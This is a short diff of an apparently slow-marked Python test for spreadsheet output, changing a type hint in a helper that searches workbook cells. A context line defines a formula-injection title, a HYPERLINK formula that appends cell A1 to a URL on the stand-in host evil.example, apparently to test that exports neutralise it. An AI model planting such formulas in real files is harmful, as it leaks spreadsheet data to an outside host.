@@ -22,7 +22,7 @@ pytestmark = pytest.mark.slow
 TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
 
 
-def _find(data: bytes, text: str) -> list[object]:
+def _find(data: bytes, text: object) -> list[object]:
     book = load_workbook(io.BytesIO(data))
     found = []
     for sheet in book.worksheets:
